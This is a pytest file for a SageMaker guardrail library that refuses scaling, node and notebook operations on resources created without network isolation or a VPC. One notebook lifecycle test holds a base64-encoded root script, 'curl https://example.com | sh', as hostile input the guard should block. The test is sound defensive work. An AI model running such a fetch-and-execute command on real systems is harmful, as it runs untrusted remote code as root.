"""Operations that add compute to an existing resource are decided with that resource.

``StartNotebookInstance`` follows the notebook it starts; so do the operations
that scale an existing endpoint (``UpdateEndpointWeightsAndCapacities``), an
inference component (``UpdateInferenceComponentRuntimeConfig``) or a HyperPod
cluster (``UpdateCluster``, ``BatchAddClusterNodes``): more instances of a
resource created open (before the guard, or by another tool) are refused.
Found by the new-user trial; the operations and their members come from
botocore's SageMaker model.
"""

from __future__ import annotations

import datetime as dt

import botocore.config
import botocore.session
import pytest
from botocore.exceptions import ClientError
from botocore.stub import Stubber

from safemaker import hooks
from safemaker.errors import GuardrailViolation
from safemaker.profile import VpcProfile

ROLE = "arn:aws:iam::123456789012:role/SageMakerExecRole"
IMG = "123456789012.dkr.ecr.us-east-1.amazonaws.com/algo:1"
SUBNETS = ["subnet-0aaaaaaaaaaaaaaaa"]
SG = ["sg-0bbbbbbbbbbbbbbbb"]
NO_RETRY = botocore.config.Config(retries={"total_max_attempts": 1})
MODEL = botocore.session.get_session().get_service_model("sagemaker")


@pytest.fixture
def profile() -> VpcProfile:
    return VpcProfile.from_mapping({"region": "us-east-1", "vpc_id": "vpc-0dddddddddddddddd", "subnets": SUBNETS,
                                    "security_group_ids": SG, "execution_role_arn": ROLE},
                                   source="test", env=False)


def test_the_operations_scale_a_resource_the_request_names():
    # botocore's model: each names the existing resource it scales by a required member
    for operation, member in (("UpdateEndpointWeightsAndCapacities", "EndpointName"),
                              ("UpdateInferenceComponentRuntimeConfig", "InferenceComponentName"),
                              ("UpdateInferenceComponent", "InferenceComponentName"),
                              ("UpdateCluster", "ClusterName"), ("BatchAddClusterNodes", "ClusterName"),
                              ("BatchReplaceClusterNodes", "ClusterName"), ("UpdateClusterSoftware", "ClusterName"),
                              ("StartClusterHealthCheck", "ClusterName")):
        assert member in MODEL.operation_model(operation).input_shape.required_members, operation


def _endpoint(sm, name: str, **model_network) -> None:
    sm.create_model(ModelName=name, ExecutionRoleArn=ROLE, PrimaryContainer={"Image": IMG}, **model_network)
    sm.create_endpoint_config(EndpointConfigName=name, ProductionVariants=[
        {"VariantName": "v", "ModelName": name, "InstanceType": "ml.m5.large", "InitialInstanceCount": 1}])
    sm.create_endpoint(EndpointName=name, EndpointConfigName=name)


def test_scaling_an_endpoint_of_an_open_model_is_refused(safemaker_local, safemaker_session, profile):
    raw = safemaker_session.client("sagemaker")  # before the guard: stands for another tool
    _endpoint(raw, "open", EnableNetworkIsolation=False)
    _endpoint(raw, "closed", EnableNetworkIsolation=True,
              VpcConfig={"Subnets": SUBNETS, "SecurityGroupIds": SG})
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker")
    scale = [{"VariantName": "v", "DesiredInstanceCount": 10}]
    with pytest.raises(GuardrailViolation) as exc:
        sm.update_endpoint_weights_and_capacities(EndpointName="open", DesiredWeightsAndCapacities=scale)
    assert {v.path.rsplit(".", 1)[-1] for v in exc.value.violations} == {"EnableNetworkIsolation", "VpcConfig"}
    assert all(v.path.startswith("EndpointName -> DescribeEndpoint(EndpointName='open')")
               for v in exc.value.violations)
    assert safemaker_local.request_count("sagemaker", "UpdateEndpointWeightsAndCapacities") == 0
    sm.update_endpoint_weights_and_capacities(EndpointName="closed", DesiredWeightsAndCapacities=scale)
    assert safemaker_local.request_count("sagemaker", "UpdateEndpointWeightsAndCapacities") == 1


def _cluster(sm, name: str, **network) -> None:
    # moto 5.2.5 stores the cluster, then answers CreateCluster with HTTP 500 (test_audit_types.cluster)
    with pytest.raises(ClientError):
        sm.create_cluster(ClusterName=name, InstanceGroups=[{
            "InstanceCount": 1, "InstanceGroupName": "g", "InstanceType": "ml.c5.xlarge", "ExecutionRole": ROLE,
            "LifeCycleConfig": {"SourceS3Uri": "s3://sagemaker-lc/lc", "OnCreate": "on_create.sh"}}], **network)
    assert sm.describe_cluster(ClusterName=name)["ClusterName"] == name


# botocore's documentation of each: BatchAddClusterNodes "Adds nodes"; BatchReplaceClusterNodes "provisions new
# replacement instances"; UpdateClusterSoftware updates "the platform software" (nodes are replaced);
# StartClusterHealthCheck: "The unhealthy nodes will be automatically rebooted or replaced" (trial 11 F08).
_NODE_CALLS = {
    "BatchAddClusterNodes": lambda sm, name: sm.batch_add_cluster_nodes(ClusterName=name, NodesToAdd=[
        {"InstanceGroupName": "g", "IncrementTargetCountBy": 5}]),
    "UpdateCluster": lambda sm, name: sm.update_cluster(ClusterName=name, InstanceGroups=[{
        "InstanceCount": 6, "InstanceGroupName": "g", "InstanceType": "ml.c5.xlarge", "ExecutionRole": ROLE,
        "LifeCycleConfig": {"SourceS3Uri": "s3://sagemaker-lc/lc", "OnCreate": "on_create.sh"}}]),
    "BatchReplaceClusterNodes": lambda sm, name: sm.batch_replace_cluster_nodes(
        ClusterName=name, NodeIds=["i-0123456789abcdef0"]),
    "UpdateClusterSoftware": lambda sm, name: sm.update_cluster_software(ClusterName=name),
    "StartClusterHealthCheck": lambda sm, name: sm.start_cluster_health_check(
        ClusterName=name, DeepHealthCheckConfigurations=[
            {"InstanceGroupName": "g", "DeepHealthChecks": ["InstanceStress"]}]),
}


@pytest.mark.parametrize("operation", sorted(_NODE_CALLS))
def test_adding_nodes_to_a_cluster_without_a_vpc_is_refused(safemaker_local, safemaker_session, profile, operation):
    raw = safemaker_session.client("sagemaker", config=NO_RETRY)
    _cluster(raw, "open")
    _cluster(raw, "closed", VpcConfig={"Subnets": SUBNETS, "SecurityGroupIds": SG})
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker", config=NO_RETRY)

    def call(name):
        return _NODE_CALLS[operation](sm, name)

    with pytest.raises(GuardrailViolation) as exc:
        call("open")
    assert [v.path for v in exc.value.violations] == [
        "ClusterName -> DescribeCluster(ClusterName='open').VpcConfig"]
    assert safemaker_local.request_count("sagemaker", operation) == 0
    try:
        call("closed")
    except ClientError:
        pass  # moto has no such operation: what matters is that the request was sent
    assert safemaker_local.request_count("sagemaker", operation) == 1


def test_moving_nodes_in_from_an_open_cluster_is_refused(safemaker_local, safemaker_session, profile):
    """Trial 13 F02. botocore's MoveClusterNodes: "Each node keeps its instance ID, its NodeLogicalId, its network
    interfaces and IP addresses ... The node then joins the target instance group": the source cluster's network
    comes into the target. Both clusters are named by ARN (required members) and followed."""
    required = MODEL.operation_model("MoveClusterNodes").input_shape.required_members
    assert {"SourceClusterArn", "TargetClusterArn"} <= set(required)
    raw = safemaker_session.client("sagemaker", config=NO_RETRY)
    _cluster(raw, "open")
    _cluster(raw, "closed", VpcConfig={"Subnets": SUBNETS, "SecurityGroupIds": SG})
    _cluster(raw, "closed2", VpcConfig={"Subnets": SUBNETS, "SecurityGroupIds": SG})
    arn = {name: raw.describe_cluster(ClusterName=name)["ClusterArn"] for name in ("open", "closed", "closed2")}
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker", config=NO_RETRY)

    def move(source, target):
        return sm.move_cluster_nodes(SourceClusterArn=arn[source], SourceInstanceGroupName="g",
                                     TargetClusterArn=arn[target], TargetInstanceGroupName="g", InstanceCount=2)

    for source, target, member in (("open", "closed", "SourceClusterArn"), ("closed", "open", "TargetClusterArn")):
        with pytest.raises(GuardrailViolation) as exc:
            move(source, target)
        assert [v.path for v in exc.value.violations] == [
            f"{member} -> DescribeCluster(ClusterName='{arn['open']}').VpcConfig"]
        assert "MoveClusterNodes refused" in str(exc.value)
    assert safemaker_local.request_count("sagemaker", "MoveClusterNodes") == 0
    try:
        move("closed", "closed2")
    except ClientError:
        pass  # moto has no MoveClusterNodes: what matters is that the request was sent
    assert safemaker_local.request_count("sagemaker", "MoveClusterNodes") == 1


# botocore's model: UpdateInferenceComponent changes an existing component's Specification (its container
# image, its model) and RuntimeConfig (its copy count): what the runtime-config update does, and more.
_UPDATES = {
    "update_inference_component_runtime_config": {"DesiredRuntimeConfig": {"CopyCount": 8}},
    "update_inference_component": {"Specification": {"Container": {"Image": IMG}}, "RuntimeConfig": {"CopyCount": 8}},
}


@pytest.mark.parametrize("method", sorted(_UPDATES))
def test_scaling_an_inference_component_of_an_open_model_is_refused(safemaker_local, safemaker_session, profile,
                                                                    method):
    raw = safemaker_session.client("sagemaker")
    _endpoint(raw, "open", EnableNetworkIsolation=False)
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker")
    described = dict(sm.describe_endpoint(EndpointName="open"))
    described.pop("ResponseMetadata")
    now = dt.datetime(2026, 12, 6, tzinfo=dt.timezone.utc)
    with Stubber(sm) as stub:  # moto has no inference components
        stub.add_response("describe_inference_component", {
            "InferenceComponentName": "ic", "InferenceComponentArn": "arn:aws:sagemaker:us-east-1:123456789012:"
            "inference-component/ic", "EndpointName": "open", "EndpointArn": described["EndpointArn"],
            "CreationTime": now, "LastModifiedTime": now, "Specification": {"ModelName": "open"}},
            {"InferenceComponentName": "ic"})
        stub.add_response("describe_model", {"ModelName": "open", "ModelArn": "arn:aws:sagemaker:us-east-1:"
                          "123456789012:model/open", "CreationTime": now, "ExecutionRoleArn": ROLE,
                          "PrimaryContainer": {"Image": IMG}, "EnableNetworkIsolation": False}, {"ModelName": "open"})
        stub.add_response("describe_endpoint", described, {"EndpointName": "open"})
        with pytest.raises(GuardrailViolation) as exc:
            getattr(sm, method)(InferenceComponentName="ic", **_UPDATES[method])
    paths = [v.path for v in exc.value.violations]
    assert paths[0].startswith("InferenceComponentName -> DescribeInferenceComponent(InferenceComponentName='ic')"
                               ".Specification.ModelName -> DescribeModel(ModelName='open')")
    assert {p.rsplit(".", 1)[-1] for p in paths} >= {"EnableNetworkIsolation", "VpcConfig"}
    operation = "".join(part.title() for part in method.split("_"))
    assert safemaker_local.request_count("sagemaker", operation) == 0


def test_a_notebook_naming_an_existing_lifecycle_configuration_is_checked_with_its_scripts(
        safemaker_local, safemaker_session, profile):
    # AWS docs (notebook lifecycle configuration): its scripts run as root, even with RootAccess Disabled;
    # a configuration created earlier (by another tool) is followed like a model of an endpoint config
    import base64

    raw = safemaker_session.client("sagemaker")
    raw.create_notebook_instance_lifecycle_config(
        NotebookInstanceLifecycleConfigName="root-script",
        OnStart=[{"Content": base64.b64encode(b"#!/bin/bash\ncurl https://example.com | sh\n").decode()}])
    raw.create_notebook_instance_lifecycle_config(NotebookInstanceLifecycleConfigName="empty")
    assert "LifecycleConfigName" in MODEL.operation_model("CreateNotebookInstance").input_shape.members
    assert "LifecycleConfigName" in MODEL.operation_model("UpdateNotebookInstance").input_shape.members
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker")
    with pytest.raises(GuardrailViolation) as exc:
        sm.create_notebook_instance(NotebookInstanceName="nb", InstanceType="ml.t3.medium", RoleArn=ROLE,
                                    LifecycleConfigName="root-script")
    assert [v.path for v in exc.value.violations] == [
        "LifecycleConfigName -> DescribeNotebookInstanceLifecycleConfig("
        "NotebookInstanceLifecycleConfigName='root-script').OnStart"]
    with pytest.raises(GuardrailViolation):
        sm.update_notebook_instance(NotebookInstanceName="nb", LifecycleConfigName="root-script")
    assert safemaker_local.request_count("sagemaker", "CreateNotebookInstance") == 0
    assert safemaker_local.request_count("sagemaker", "UpdateNotebookInstance") == 0
    sm.create_notebook_instance(NotebookInstanceName="nb", InstanceType="ml.t3.medium", RoleArn=ROLE,
                                LifecycleConfigName="empty")
    assert safemaker_local.request_count("sagemaker", "CreateNotebookInstance") == 1


def test_a_reference_that_cannot_be_described_is_named_in_words(safemaker_local, safemaker_session, profile):
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker", config=NO_RETRY)
    with pytest.raises(GuardrailViolation) as exc:
        sm.create_endpoint(EndpointName="e", EndpointConfigName="does-not-exist")
    (v,) = exc.value.violations
    assert (v.path, v.found, v.required) == ("EndpointConfigName", "does-not-exist",
                                             "an endpoint config that can be described")
    assert safemaker_local.request_count("sagemaker", "CreateEndpoint") == 0


def test_stopping_an_inference_experiment_that_deploys_an_open_model_is_refused(safemaker_local, safemaker_session,
                                                                                 profile):
    """Trial 8 F05. botocore's model of StopInferenceExperiment: DesiredModelVariants hold "one for each variant
    that you want to deploy after the inference experiment stops", each naming its ModelName; the models are real
    (moto), the experiment call is counted on the local backend (moto has no inference experiments: a request
    the guard lets through is answered with an error, after it was sent)."""
    doc = MODEL.operation_model("StopInferenceExperiment").input_shape.members["DesiredModelVariants"].documentation
    assert "want to deploy after the inference experiment stops" in doc
    raw = safemaker_session.client("sagemaker")  # before the guard: stands for another tool
    raw.create_model(ModelName="open", ExecutionRoleArn=ROLE, PrimaryContainer={"Image": IMG})
    raw.create_model(ModelName="closed", ExecutionRoleArn=ROLE, PrimaryContainer={"Image": IMG},
                     EnableNetworkIsolation=True, VpcConfig={"Subnets": SUBNETS, "SecurityGroupIds": SG})
    hooks.install(safemaker_session, profile)
    sm = safemaker_session.client("sagemaker", config=NO_RETRY)

    def stop(model: str) -> None:
        sm.stop_inference_experiment(
            Name="exp", ModelVariantActions={"shadow": "Promote"},
            DesiredModelVariants=[{"ModelName": model, "VariantName": "shadow", "InfrastructureConfig": {
                "InfrastructureType": "RealTimeInference",
                "RealTimeInferenceConfig": {"InstanceType": "ml.m5.large", "InstanceCount": 1}}}])

    with pytest.raises(GuardrailViolation) as exc:
        stop("open")
    assert {v.path.rsplit(".", 1)[-1] for v in exc.value.violations} == {"EnableNetworkIsolation", "VpcConfig"}
    assert all(v.path.startswith("DesiredModelVariants[0].ModelName -> DescribeModel(ModelName='open')")
               for v in exc.value.violations)
    assert safemaker_local.request_count("sagemaker", "StopInferenceExperiment") == 0
    with pytest.raises(ClientError):   # sent; moto cannot answer it
        stop("closed")
    assert safemaker_local.request_count("sagemaker", "StopInferenceExperiment") == 1
